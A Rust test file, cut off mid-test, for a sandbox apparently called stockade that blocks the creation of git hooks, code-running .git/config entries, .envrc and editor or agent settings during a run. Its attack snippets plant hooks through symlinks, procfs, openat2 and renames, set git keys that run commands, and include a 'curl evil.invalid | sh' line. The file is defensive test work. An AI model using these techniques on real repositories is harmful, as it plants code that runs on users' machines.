//! In-run prevention of protected paths. A protected path that does not exist when the run
//! starts (no read-only mount can cover it) must not come into existence during the run
//! either: the sandbox's name-creating system calls (`open*`/`creat` with `O_CREAT`, `mkdir*`,
//! `mknod*`, `symlink*`, `link*`, `rename*`, the `chmod` family) are performed by stockade on
//! the command's behalf and refused with `EPERM` when they would create a protected path. Each
//! refusal is reported as an `E_SANDBOX_VIOLATION` of kind `protected_path_blocked`.
//!
//! Attack tests run the control FIRST, on a fixture of its own: the same snippet without
//! stockade must take effect (so every attack can fail), then the attack runs in a fresh
//! fixture. The decisive checks are made both inside, right after the attack (the workspace is
//! the host's directory, so "exists inside" is "exists on the host, during the run"), and on
//! the host after the run, where the post-run sweep must have found nothing to quarantine.
//!
//! The second half checks that ordinary work which goes through the same system calls keeps
//! working: git in a new repository, `/dev/stdout`, umask, FIFOs, links, archives, venvs,
//! ownership of created files.

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use attacks::{
    egid, euid, live_hooks, python3, read_text, sh_quote, walk, write_file, Fixture, Outcome,
};

const HOOK: &str = r"printf '#!/bin/sh\necho pwned-by-hook\n'";

/// `git init` of a new repository in the current directory.
const FRESH: &str = "git -c init.defaultBranch=main init -q";

/// `git commit` options for a repository without a configured identity.
const ID: &str = "-c user.name=In -c user.email=in@example.invalid";

/// Printed by the probe when the attack took effect.
const PRESENT: &str = "__ATTACK_TOOK_EFFECT__";

/// Status of a probe whose setup failed (ordinary operations were refused).
const SETUP_FAILED: i32 = 99;

/// `strerror(EPERM)`, as coreutils, dash, git and python print it.
const EPERM_TEXT: &str = "Operation not permitted";

/// Config that makes git run code.
const EVIL_CONFIG: &str = r"printf '[core]\n\tfsmonitor = touch pwned\n'";

/// A shell condition true when `rel` exists (a dangling symlink included).
fn exists_sh(rel: &str) -> String {
    let q = sh_quote(rel);
    format!("[ -e {q} ] || [ -L {q} ]")
}

fn exists_host(path: &Path) -> bool {
    fs::symlink_metadata(path).is_ok()
}

/// How the workspace looks when the run starts.
#[derive(Clone, Copy, Debug)]
enum Start {
    /// A git repository with one commit (its `.git/hooks` and `.git/config` are mounted
    /// read-only, so attacks on them are not about in-run prevention).
    Repo,
    /// No `.git`: the attacks start with [`FRESH`], a repository made during the run.
    Plain,
}

/// What the host sees when the attack took effect.
#[derive(Clone, Debug)]
enum Landed {
    /// This path (relative to the workspace) exists.
    Exists(String),
    /// `.git/config` contains this text (case-insensitive).
    ConfigHas(&'static str),
}

impl Landed {
    fn shell(&self) -> String {
        match self {
            Landed::Exists(rel) => exists_sh(rel),
            Landed::ConfigHas(text) => format!("grep -qi {} .git/config", sh_quote(text)),
        }
    }

    fn on_host(&self, ws: &Path) -> bool {
        match self {
            Landed::Exists(rel) => exists_host(&ws.join(rel)),
            Landed::ConfigHas(text) => read_text(&ws.join(".git/config"))
                .is_some_and(|c| c.to_lowercase().contains(&text.to_lowercase())),
        }
    }
}

/// One attack: `setup` (ordinary operations, which must work inside too), then `attack`,
/// then a probe of whether it took effect.
#[derive(Clone, Debug)]
struct Case {
    start: Start,
    setup: String,
    attack: String,
    landed: Landed,
    /// The refusal must be reported with a path ending in one of these (relative to the
    /// workspace); empty when no violation is expected (the kernel, not stockade, refuses).
    blocked: Vec<String>,
    /// The attack's own status must be non-zero.
    must_fail: bool,
    /// The attack's output must contain `strerror(EPERM)`.
    eperm: bool,
}

/// The attack tries to create `path` (relative to the workspace).
fn creates(start: Start, setup: &str, attack: &str, path: &str) -> Case {
    Case {
        start,
        setup: setup.to_owned(),
        attack: attack.to_owned(),
        landed: Landed::Exists(path.to_owned()),
        blocked: vec![path.to_owned()],
        must_fail: true,
        eperm: true,
    }
}

/// In a repository made during the run, the attack tries to get `text` into `.git/config`.
fn configures(setup: &str, attack: &str, text: &'static str) -> Case {
    Case {
        start: Start::Plain,
        setup: if setup.is_empty() {
            FRESH.to_owned()
        } else {
            format!("{FRESH} && {setup}")
        },
        attack: attack.to_owned(),
        landed: Landed::ConfigHas(text),
        blocked: vec![".git/config".to_owned()],
        must_fail: true,
        eperm: false,
    }
}

/// In a repository made during the run, the attack tries to create `path`.
fn creates_in_fresh_repo(setup: &str, attack: &str, path: &str) -> Case {
    let setup = if setup.is_empty() {
        FRESH.to_owned()
    } else {
        format!("{FRESH} && {setup}")
    };
    creates(Start::Plain, &setup, attack, path)
}

impl Case {
    /// The violation may name any of these paths instead.
    fn blocked_as(mut self, suffixes: &[&str]) -> Self {
        self.blocked = suffixes.iter().map(|s| (*s).to_owned()).collect();
        self
    }

    /// No violation is expected (a refusal by the kernel, e.g. `EACCES` on a read-only file).
    fn no_violation(mut self) -> Self {
        self.blocked.clear();
        self
    }

    /// The tool does not print `strerror` (git's own messages, for instance).
    fn no_strerror(mut self) -> Self {
        self.eperm = false;
        self
    }

    /// The attack's command may succeed as long as it has no effect.
    fn may_succeed(mut self) -> Self {
        self.must_fail = false;
        self
    }

    fn fixture(&self) -> Fixture {
        match self.start {
            Start::Repo => Fixture::new(),
            Start::Plain => Fixture::without_git(),
        }
    }

    /// setup || exit 99; (attack); probe; exit with the attack's status.
    fn script(&self) -> String {
        let setup = if self.setup.is_empty() {
            "true"
        } else {
            &self.setup
        };
        format!(
            "{{ {setup}\n}} || exit {SETUP_FAILED}\n( {attack}\n)\n__attack=$?\nif {landed}; then echo {PRESENT}; fi\nexit $__attack",
            attack = self.attack,
            landed = self.landed.shell(),
        )
    }

    /// The control without stockade, then the attack inside.
    fn check(&self) {
        let script = self.script();
        // Control: without stockade the attack takes effect.
        let fx = self.fixture();
        let out = fx.control(&script).outcome();
        assert_eq!(
            out.ran(),
            0,
            "control: without stockade the attack should work\n{}",
            out.run.describe()
        );
        out.assert_output_contains(PRESENT);
        assert!(
            self.landed.on_host(&fx.ws),
            "control: the attack left no trace on the host ({:?})",
            self.landed
        );
        // The attack.
        let fx = self.fixture();
        let records = fx.records();
        let out = fx.attack(&records.opts(), &script).outcome();
        let rc = out.ran();
        assert_ne!(
            rc,
            SETUP_FAILED,
            "the setup (ordinary operations) failed inside the sandbox\n{}",
            out.run.describe()
        );
        // Refused during the run: only where the backend guards creation (native). Elsewhere
        // (gVisor) the attack lands inside and the state after the run is the proof.
        let guarded = attacks::creation_guarded();
        if guarded {
            assert!(
                !out.run.all_output().contains(PRESENT),
                "the attack took effect inside the run, so on the host while the run lasted\n{}",
                out.run.describe()
            );
        }
        if self.must_fail && guarded {
            assert_ne!(
                rc,
                0,
                "the attack's command succeeded inside\n{}",
                out.run.describe()
            );
        }
        assert!(
            !self.landed.on_host(&fx.ws),
            "the attack took effect on the host after the run ({:?})\n{}",
            self.landed,
            out.run.describe()
        );
        if guarded {
            if self.eperm {
                out.assert_output_contains(EPERM_TEXT);
            }
            if !self.blocked.is_empty() {
                let suffixes: Vec<&str> = self.blocked.iter().map(String::as_str).collect();
                records.assert_blocked(&out.run, &suffixes);
            }
            records.assert_nothing_swept(&out.run);
        }
        assert!(
            live_hooks(&fx.ws).is_empty(),
            "live hooks on the host: {:?}",
            live_hooks(&fx.ws)
        );
    }
}

/// The quoted python3 for snippets, or `None` (and a skip line).
fn py(what: &str) -> Option<String> {
    python3(what).map(sh_quote)
}

// ---------------------------------------------------------------------------------------
// Hooks in a repository made by `git init` during the run.

#[test]
fn fresh_repo_hook_written_by_redirect_is_refused() {
    creates_in_fresh_repo(
        "",
        &format!("{HOOK} > .git/hooks/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .check();
}

#[test]
fn fresh_repo_sample_renamed_onto_hook_is_refused() {
    creates_in_fresh_repo(
        "",
        "mv .git/hooks/pre-commit.sample .git/hooks/pre-commit",
        ".git/hooks/pre-commit",
    )
    .check();
}

#[test]
fn fresh_repo_sample_copied_onto_hook_is_refused() {
    creates_in_fresh_repo(
        "",
        "cp .git/hooks/pre-commit.sample .git/hooks/pre-commit",
        ".git/hooks/pre-commit",
    )
    .check();
}

#[test]
fn fresh_repo_hook_symlink_is_refused() {
    creates_in_fresh_repo(
        &format!("{HOOK} > x && chmod +x x"),
        "ln -s ../../x .git/hooks/pre-commit",
        ".git/hooks/pre-commit",
    )
    .check();
}

#[test]
fn fresh_repo_hook_hardlink_is_refused() {
    creates_in_fresh_repo(
        &format!("{HOOK} > x && chmod +x x"),
        "ln x .git/hooks/pre-commit",
        ".git/hooks/pre-commit",
    )
    .check();
}

/// The hooks directory may be deleted and made again, but only `*.sample` entries may be
/// created in it.
#[test]
fn fresh_repo_recreated_hooks_dir_accepts_no_hook() {
    creates_in_fresh_repo(
        "rm -rf .git/hooks && mkdir .git/hooks",
        "touch .git/hooks/post-checkout",
        ".git/hooks/post-checkout",
    )
    .check();
}

#[test]
fn fresh_repo_hook_directory_is_refused() {
    creates_in_fresh_repo("", "mkdir .git/hooks/pre-commit", ".git/hooks/pre-commit").check();
}

#[test]
fn fresh_repo_hook_created_from_inside_hooks_dir_is_refused() {
    creates_in_fresh_repo(
        "",
        &format!("cd .git/hooks && {HOOK} > pre-commit"),
        ".git/hooks/pre-commit",
    )
    .check();
}

#[test]
fn fresh_repo_hook_through_proc_self_cwd_is_refused() {
    creates_in_fresh_repo(
        "",
        &format!("{HOOK} > /proc/self/cwd/.git/hooks/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .check();
}

#[test]
fn fresh_repo_hook_through_dotdot_is_refused() {
    creates_in_fresh_repo(
        "mkdir aaaa",
        &format!("{HOOK} > aaaa/../.git/hooks/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// `/proc/self/fd/3` is a directory descriptor on `.git/hooks`.
#[test]
fn fresh_repo_hook_through_proc_self_fd_is_refused() {
    creates_in_fresh_repo(
        "",
        &format!("exec 3< .git/hooks && {HOOK} > /proc/self/fd/3/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// Another process's working directory, named through `/proc/<pid>/cwd`.
#[test]
fn fresh_repo_hook_through_another_process_cwd_is_refused() {
    creates_in_fresh_repo(
        "",
        &format!(
            "cd .git/hooks && {{ sleep 5 & p=$!; cd ../..; {HOOK} > /proc/$p/cwd/pre-commit; r=$?; kill $p; exit $r; }}"
        ),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// `openat2` takes its flags in a struct seccomp cannot read: it must not create anything
/// unchecked (refusing it outright, e.g. `ENOSYS`, is fine).
#[test]
fn fresh_repo_hook_created_by_openat2_is_refused() {
    let Some(py) = py("openat2") else {
        return;
    };
    creates_in_fresh_repo(
        "",
        &format!(
            "{py} -c 'import ctypes, os, struct; libc = ctypes.CDLL(None, use_errno=True); how = ctypes.create_string_buffer(struct.pack(\"QQQ\", os.O_CREAT | os.O_WRONLY, 0o755, 0)); r = libc.syscall(437, -100, b\".git/hooks/pre-commit\", how, 24); r >= 0 or exit(os.strerror(ctypes.get_errno()))'"
        ),
        ".git/hooks/pre-commit",
    )
    .no_violation()
    .no_strerror()
    .check();
}

/// `g -> .git`: the name the command uses is harmless, the path it creates is not. (Refusing
/// the symlink itself would do too.)
#[test]
fn fresh_repo_hook_through_symlinked_git_dir_is_refused() {
    creates_in_fresh_repo(
        "",
        &format!("ln -s .git g && {HOOK} > g/hooks/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .blocked_as(&["hooks/pre-commit", "g"])
    .check();
}

#[test]
fn fresh_repo_hook_through_symlinked_hooks_dir_is_refused() {
    creates_in_fresh_repo(
        "",
        &format!("ln -s .git/hooks h && {HOOK} > h/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .blocked_as(&["pre-commit", "h"])
    .check();
}

#[test]
fn fresh_repo_hook_opened_relative_to_a_dirfd_is_refused() {
    let Some(py) = py("openat(dirfd)") else {
        return;
    };
    creates_in_fresh_repo(
        "",
        &format!(
            "{py} -c 'import os; d = os.open(\".git/hooks\", os.O_RDONLY | os.O_DIRECTORY); os.close(os.open(\"pre-commit\", os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=d))'"
        ),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// The same through an `O_PATH` descriptor (the init takes the command's own open file for a
/// dirfd, whatever its mode).
#[test]
fn fresh_repo_hook_opened_relative_to_an_o_path_dirfd_is_refused() {
    let Some(py) = py("openat(O_PATH dirfd)") else {
        return;
    };
    creates_in_fresh_repo(
        "",
        &format!(
            "{py} -c 'import os; d = os.open(\".git/hooks\", os.O_PATH | os.O_DIRECTORY); os.close(os.open(\"pre-commit\", os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=d))'"
        ),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// An absolute path: its string is the path the rules see when no component is a symlink,
/// `.` or `..` (no lookup of the directory's path).
#[test]
fn fresh_repo_hook_by_absolute_path_is_refused() {
    creates_in_fresh_repo(
        "",
        &format!("{HOOK} > \"$PWD/.git/hooks/pre-commit\""),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// An absolute path whose string is not the path: `..`, `.` and repeated slashes.
#[test]
fn fresh_repo_hook_by_absolute_path_with_dots_is_refused() {
    creates_in_fresh_repo(
        "mkdir aaaa",
        &format!("{HOOK} > \"$PWD//aaaa/..//./.git/./hooks//pre-commit\""),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// An absolute path through a symlink (`g -> .git`): the string names a harmless path.
#[test]
fn fresh_repo_hook_by_absolute_path_through_a_symlink_is_refused() {
    creates_in_fresh_repo(
        "",
        &format!("ln -s .git g && {HOOK} > \"$PWD/g/hooks/pre-commit\""),
        ".git/hooks/pre-commit",
    )
    .blocked_as(&["hooks/pre-commit", "g"])
    .check();
}

/// A python3 `os.open(path, O_WRONLY|O_CREAT|O_EXCL, 0o755)` writing a hook, relative to
/// the directory `dir` opened first (`None`: the cwd). `O_EXCL` creations take the init's
/// one-call way (`openat2(start, path, O_CREAT|O_EXCL, RESOLVE_NO_SYMLINKS)`, the rules
/// judging the start's real path joined with the string): these attacks aim at it.
fn exclusive_hook(py: &str, dir: Option<&str>, path: &str) -> String {
    let (open_dir, dir_fd) = match dir {
        Some(d) => (
            format!("d = os.open(\"{d}\", os.O_RDONLY | os.O_DIRECTORY); "),
            ", dir_fd=d",
        ),
        None => (String::new(), ""),
    };
    format!(
        "{py} -c 'import os; {open_dir}f = os.open(\"{path}\", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755{dir_fd}); os.write(f, b\"#!/bin/sh\\necho pwned-by-hook\\n\"); os.close(f)'"
    )
}

/// `O_EXCL`, several components relative to the cwd.
#[test]
fn fresh_repo_hook_created_exclusively_is_refused() {
    let Some(py) = py("open(O_EXCL)") else {
        return;
    };
    creates_in_fresh_repo(
        "",
        &exclusive_hook(&py, None, ".git/hooks/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// `O_EXCL`, several components relative to a dirfd (`.git`, then `hooks/pre-commit`).
#[test]
fn fresh_repo_hook_created_exclusively_below_a_dirfd_is_refused() {
    let Some(py) = py("openat(dirfd, O_EXCL)") else {
        return;
    };
    creates_in_fresh_repo(
        "",
        &exclusive_hook(&py, Some(".git"), "hooks/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// `O_EXCL` relative to a dirfd opened through a symlink (`g -> .git`): the start's path is
/// the directory's real one, not the string the command opened it by.
#[test]
fn fresh_repo_hook_created_exclusively_below_a_dirfd_opened_by_a_symlink_is_refused() {
    let Some(py) = py("openat(symlinked dirfd, O_EXCL)") else {
        return;
    };
    creates_in_fresh_repo(
        "ln -s .git g",
        &exclusive_hook(&py, Some("g"), "hooks/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// `O_EXCL` through a symlink on the way (`g -> .git`; and `h -> .git/hooks` as the last
/// directory): the one-call way fails (`ELOOP`) and the careful way decides.
#[test]
fn fresh_repo_hook_created_exclusively_through_a_symlink_is_refused() {
    let Some(py) = py("open(symlink/.., O_EXCL)") else {
        return;
    };
    creates_in_fresh_repo(
        "ln -s .git g",
        &exclusive_hook(&py, None, "g/hooks/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .blocked_as(&["hooks/pre-commit", "g"])
    .check();
    creates_in_fresh_repo(
        "ln -s .git/hooks h",
        &exclusive_hook(&py, None, "h/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .blocked_as(&["hooks/pre-commit", "h"])
    .check();
}

/// `O_EXCL` with `..` and `.` on the way (lexically they would name `aaaa/.git-like`
/// paths the rules do not match if taken as spelled): the careful way decides.
#[test]
fn fresh_repo_hook_created_exclusively_through_dotdot_is_refused() {
    let Some(py) = py("open(.., O_EXCL)") else {
        return;
    };
    creates_in_fresh_repo(
        "mkdir -p aaaa/bbbb",
        &exclusive_hook(&py, Some("aaaa/bbbb"), "../.././.git/hooks/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// `O_EXCL` through procfs (`/proc/self/cwd/...`, a magic link after a symlink): the one-call
/// way refuses magic links, the careful way substitutes the command's own ids.
#[test]
fn fresh_repo_hook_created_exclusively_through_proc_self_cwd_is_refused() {
    let Some(py) = py("open(/proc/self/cwd, O_EXCL)") else {
        return;
    };
    creates_in_fresh_repo(
        "",
        &exclusive_hook(&py, None, "/proc/self/cwd/.git/hooks/pre-commit"),
        ".git/hooks/pre-commit",
    )
    .blocked_as(&["hooks/pre-commit"])
    .check();
}

/// What the one-call way creates keeps the call's meaning: the umask and no set-id bits,
/// `EEXIST` for an existing name or a dangling symlink (never followed), `ENOENT` for a
/// missing directory, `ENOTDIR` for a file on the way, and a symlinked directory or `..`
/// still reach their real place.
#[test]
fn exclusive_creations_keep_their_meaning() {
    let Some(py) = py("open(O_EXCL) semantics") else {
        return;
    };
    let fx = Fixture::without_git();
    let code = r#"
import errno, os
os.umask(0o027)
os.makedirs("a/b")
os.symlink("a", "l")
os.symlink("nowhere", "a/dangling")
open("file", "w").close()
d = os.open("a", os.O_RDONLY | os.O_DIRECTORY)
X = os.O_WRONLY | os.O_CREAT | os.O_EXCL
for name, path, fd in [("plain", "a/b/new", None), ("dirfd", "b/new2", d),
                       ("setid", "a/setid", None), ("link", "l/b/vialink", None),
                       ("dotdot", "a/b/../up", None), ("exists", "a/b/new", None),
                       ("dangling", "a/dangling", None), ("missing", "a/nope/x", None),
                       ("notdir", "file/x", None)]:
    try:
        mode = 0o6777 if name == "setid" else 0o777
        f = os.open(path, X, mode, dir_fd=fd) if fd is not None else os.open(path, X, mode)
        os.close(f)
        print(name, "made", oct(os.stat(path, dir_fd=fd).st_mode & 0o7777))
    except OSError as e:
        print(name, errno.errorcode[e.errno])
print("dangling target", os.path.lexists("a/nowhere"))
"#;
    let prog = fx.script("excl.py", code);
    let out = works(&fx, &format!("{py} {}", sh_quote(prog)));
    // Set-id bits are dropped by the guard; under gVisor (no guard) such a creation is
    // refused outright.
    if attacks::creation_guarded() {
        out.assert_shows("setid made 0o750\n");
    } else {
        out.assert_shows("setid EPERM\n");
    }
    out.assert_shows("plain made 0o750\n")
        .assert_shows("dirfd made 0o750\n")
        .assert_shows("link made 0o750\n")
        .assert_shows("dotdot made 0o750\n")
        .assert_shows("exists EEXIST\n")
        .assert_shows("dangling EEXIST\n")
        .assert_shows("missing ENOENT\n")
        .assert_shows("notdir ENOTDIR\n")
        .assert_shows("dangling target False\n");
    for made in ["a/b/new", "a/b/new2", "a/b/vialink", "a/up"] {
        assert!(
            fx.ws.join(made).is_file(),
            "{made} was not made on the host"
        );
    }
}

/// `mknod(S_IFREG)` makes an empty regular file without `open`.
#[test]
fn fresh_repo_hook_made_by_mknod_is_refused() {
    let Some(py) = py("mknod") else {
        return;
    };
    creates_in_fresh_repo(
        "",
        &format!(
            "{py} -c 'import os, stat; os.mknod(\".git/hooks/pre-commit\", stat.S_IFREG | 0o755)'"
        ),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// An unnamed `O_TMPFILE` inode in the hooks directory, then given a name with
/// `linkat(AT_FDCWD, "/proc/self/fd/N", ..., AT_SYMLINK_FOLLOW)` (python's `os.link` would
/// call `link()`, which links the magic link itself and fails with `EXDEV`).
#[test]
fn fresh_repo_hook_linked_from_an_o_tmpfile_is_refused() {
    let Some(py) = py("O_TMPFILE") else {
        return;
    };
    creates_in_fresh_repo(
        "",
        &format!(
            "{py} -c 'import os; fd = os.open(\".git/hooks\", os.O_TMPFILE | os.O_WRONLY, 0o755); os.write(fd, b\"#!/bin/sh\\necho pwned-by-hook\\n\"); import ctypes; libc = ctypes.CDLL(None, use_errno=True); r = libc.linkat(-100, b\"/proc/self/fd/%d\" % fd, -100, b\".git/hooks/pre-commit\", 0x400); r == 0 or exit(os.strerror(ctypes.get_errno()))'"
        ),
        ".git/hooks/pre-commit",
    )
    .check();
}

/// `renameat2(RENAME_EXCHANGE)` swaps a directory holding a hook with `.git/hooks`.
#[test]
fn fresh_repo_hooks_dir_exchanged_by_renameat2_is_refused() {
    let Some(py) = py("renameat2") else {
        return;
    };
    creates_in_fresh_repo(
        &format!("mkdir evil && {HOOK} > evil/pre-commit && chmod +x evil/pre-commit"),
        &format!(
            "{py} -c 'import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); r = libc.syscall(316, -100, b\"evil\", -100, b\".git/hooks\", 2); r == 0 or exit(os.strerror(ctypes.get_errno()))'"
        ),
        ".git/hooks/pre-commit",
    )
    .blocked_as(&[".git/hooks", "evil"])
    .check();
}

#[test]
fn fresh_repo_hooks_dir_cannot_become_a_symlink() {
    creates_in_fresh_repo(
        &format!(
            "rm -rf .git/hooks && mkdir myhooks && {HOOK} > myhooks/pre-commit && chmod +x myhooks/pre-commit"
        ),
        "ln -s ../myhooks .git/hooks",
        ".git/hooks",
    )
    .check();
}

/// `git init --template` copies the template's hooks into the new repository.
#[test]
fn git_init_template_cannot_carry_hooks() {
    creates(
        Start::Plain,
        &format!(
            "mkdir -p tpl/hooks && {HOOK} > tpl/hooks/pre-commit && chmod +x tpl/hooks/pre-commit"
        ),
        "git -c init.defaultBranch=main init -q --template=tpl",
        ".git/hooks/pre-commit",
    )
    .check();
}

#[test]
fn nested_fresh_repo_hook_is_refused() {
    creates(
        Start::Repo,
        "git init -q vendor/dep",
        &format!("{HOOK} > vendor/dep/.git/hooks/post-checkout"),
        "vendor/dep/.git/hooks/post-checkout",
    )
    .check();
}

/// A bare repository made during the run has no `.git` in its path: it is recognised by its
/// content (`HEAD` and `objects`). A host `git push` to it would run its `pre-receive`.
#[test]
fn fresh_bare_repo_hook_is_refused() {
    creates(
        Start::Plain,
        "git init -q --bare remote.git",
        &format!("{HOOK} > remote.git/hooks/pre-receive"),
        "remote.git/hooks/pre-receive",
    )
    .check();
}

// ---------------------------------------------------------------------------------------
// `.git/config` of a repository made during the run.

#[test]
fn fresh_repo_fsmonitor_cannot_be_configured() {
    configures("", "git config core.fsmonitor 'touch pwned'", "fsmonitor").check();
}

#[test]
fn fresh_repo_hooks_path_cannot_be_configured() {
    configures("", "git config core.hooksPath /tmp/x", "hookspath").check();
}

#[test]
fn fresh_repo_code_running_config_keys_are_refused() {
    for (attack, text) in [
        ("git config alias.st '!touch pwned'", "alias"),
        ("git config core.pager 'touch pwned; less'", "pager"),
        ("git config core.sshCommand 'touch pwned'", "sshcommand"),
        ("git config include.path ../evil.cfg", "include"),
        ("git config filter.x.clean 'touch pwned'", "filter"),
    ] {
        configures("", attack, text).check();
    }
}

/// stockade keeps a new repository's config read-only (0444) during the run; making it
/// writable again is refused.
#[test]
fn fresh_repo_config_cannot_be_chmodded_writable() {
    configures(
        "",
        &format!("chmod u+w .git/config && {EVIL_CONFIG} >> .git/config"),
        "fsmonitor",
    )
    .check_with_eperm();
}

#[test]
fn fresh_repo_config_cannot_be_fchmodded_writable() {
    let Some(py) = py("fchmod") else {
        return;
    };
    configures(
        "",
        &format!(
            "{py} -c 'import os; os.fchmod(os.open(\".git/config\", os.O_RDONLY), 0o644)' && {EVIL_CONFIG} >> .git/config"
        ),
        "fsmonitor",
    )
    .check_with_eperm();
}

/// `fchmodat2` (Linux 6.6) is the newest member of the `chmod` family.
#[test]
fn fresh_repo_config_cannot_be_made_writable_by_fchmodat2() {
    let Some(py) = py("fchmodat2") else {
        return;
    };
    let call = "import ctypes, os, sys; libc = ctypes.CDLL(None, use_errno=True); r = libc.syscall(452, -100, sys.argv[1].encode(), 0o644, 0); r == 0 or exit(os.strerror(ctypes.get_errno()))";
    // Skip on kernels without the system call (the control could not work).
    let fx = Fixture::without_git();
    let probe = fx
        .host(&format!("touch probe && {py} -c {} probe", sh_quote(call)))
        .run();
    if probe.all_output().contains("Function not implemented") {
        println!("skipped: fchmodat2 is not implemented by this kernel");
        return;
    }
    probe.assert_success();
    configures(
        "",
        &format!(
            "{py} -c {} .git/config && {EVIL_CONFIG} >> .git/config",
            sh_quote(call)
        ),
        "fsmonitor",
    )
    .no_violation()
    .no_strerror()
    .check();
}

/// A minimal POSIX ACL is a `chmod` by another name (`setxattr(system.posix_acl_access)`).
#[test]
fn fresh_repo_config_cannot_be_made_writable_by_an_acl() {
    let Some(py) = py("setxattr ACL") else {
        return;
    };
    configures(
        "",
        &format!(
            "{py} -c 'import os, struct; e = lambda t, p: struct.pack(\"<HHI\", t, p, 0xFFFFFFFF); os.setxattr(\".git/config\", \"system.posix_acl_access\", struct.pack(\"<I\", 2) + e(1, 6) + e(4, 4) + e(0x20, 4))' && {EVIL_CONFIG} >> .git/config"
        ),
        "fsmonitor",
    )
    .no_violation()
    .check();
}

/// A plain append: the kernel refuses (the file is 0444), stockade has nothing to report.
#[test]
fn fresh_repo_config_cannot_be_appended_to() {
    configures("", &format!("{EVIL_CONFIG} >> .git/config"), "fsmonitor")
        .no_violation()
        .check();
}

/// A new config may only arrive through a rename of inert content, never by `open(O_CREAT)`.
#[test]
/// Creating the config with `open(O_CREAT)` is what libgit2 does (then it renames a lock file
/// onto it), so the open succeeds: the file is made empty and read-only, and the descriptor
/// handed back cannot write, so the content never lands.
fn fresh_repo_config_cannot_be_recreated_by_redirect() {
    configures(
        "rm -f .git/config",
        &format!("{EVIL_CONFIG} > .git/config"),
        "fsmonitor",
    )
    .no_violation()
    .no_strerror()
    .check();
}

#[test]
fn fresh_repo_config_cannot_be_replaced_by_renaming_an_evil_file() {
    configures(
        &format!("{EVIL_CONFIG} > evil.cfg"),
        "mv evil.cfg .git/config",
        "fsmonitor",
    )
    .check_with_eperm();
}

#[test]
fn fresh_repo_config_cannot_be_a_symlink() {
    configures(
        &format!("{EVIL_CONFIG} > evil.cfg && rm -f .git/config"),
        "ln -s ../evil.cfg .git/config",
        "fsmonitor",
    )
    .check_with_eperm();
}

#[test]
fn fresh_repo_config_cannot_be_hardlinked_into_place() {
    configures(
        &format!("{EVIL_CONFIG} > evil.cfg && rm -f .git/config"),
        "ln evil.cfg .git/config",
        "fsmonitor",
    )
    .check_with_eperm();
}

/// A second name for the config's inode would let the command write it later.
#[test]
fn fresh_repo_config_cannot_be_hardlinked_out() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    creates_in_fresh_repo("", "ln .git/config cfg", "cfg")
        .blocked_as(&["cfg", ".git/config"])
        .check();
}

/// An inert file renamed onto `.git/config` is allowed, but the command kept it open for
/// writing: what it writes afterwards must not reach the new config.
#[test]
fn fresh_repo_config_renamed_into_place_cannot_be_written_through_an_open_fd() {
    configures(
        "cat .git/config > c && exec 3>>c",
        &format!("mv c .git/config && {EVIL_CONFIG} >&3"),
        "fsmonitor",
    )
    .may_succeed()
    .no_violation()
    .no_strerror()
    .check();
}

/// The same with a second hard link to the file renamed into place (made writable first:
/// the link's name is not protected, its inode is).
#[test]
fn fresh_repo_config_renamed_into_place_cannot_be_written_through_a_hardlink() {
    configures(
        "cat .git/config > c && ln c keep",
        &format!("mv c .git/config && chmod u+w keep && {EVIL_CONFIG} >> keep"),
        "fsmonitor",
    )
    .may_succeed()
    .no_violation()
    .no_strerror()
    .check();
}

impl Case {
    /// Like [`Case::check`], and the output carries `strerror(EPERM)` (coreutils and dash
    /// print it; used for config attacks that do not go through git).
    fn check_with_eperm(mut self) {
        self.eperm = true;
        self.check();
    }
}

// ---------------------------------------------------------------------------------------
// Other protected names.

#[test]
fn envrc_cannot_be_created() {
    creates(
        Start::Repo,
        "",
        "echo 'curl evil.invalid | sh' > .envrc",
        ".envrc",
    )
    .check();
}

#[test]
fn mcp_json_cannot_be_created() {
    creates(Start::Repo, "", "echo '{}' > .mcp.json", ".mcp.json").check();
}

#[test]
fn stockade_toml_cannot_be_created() {
    creates(
        Start::Repo,
        "",
        "echo 'profile = \"workspace-write\"' > stockade.toml",
        "stockade.toml",
    )
    .check();
}

#[test]
fn vscode_dir_cannot_be_created() {
    creates(Start::Repo, "", "mkdir .vscode", ".vscode").check();
}

#[test]
fn claude_settings_cannot_be_created() {
    creates(
        Start::Repo,
        "",
        "mkdir -p .claude && echo '{}' > .claude/settings.json",
        ".claude",
    )
    .check();
}

#[test]
fn idea_dir_cannot_be_created() {
    creates(Start::Repo, "", "mkdir .idea", ".idea").check();
}

#[test]
fn husky_dir_cannot_be_created() {
    creates(Start::Repo, "", "mkdir .husky", ".husky").check();
}

#[test]
fn nested_envrc_cannot_be_created() {
    creates(
        Start::Repo,
        "mkdir sub",
        "echo 'echo pwned' > sub/.envrc",
        "sub/.envrc",
    )
    .check();
}

#[test]
fn codex_dir_cannot_be_created() {
    creates(Start::Repo, "", "mkdir .codex", ".codex").check();
}

#[test]
fn stockade_dir_cannot_be_created() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    creates(Start::Repo, "", "mkdir .stockade", ".stockade").check();
}

#[test]
fn gitmodules_cannot_be_created() {
    creates(
        Start::Repo,
        "",
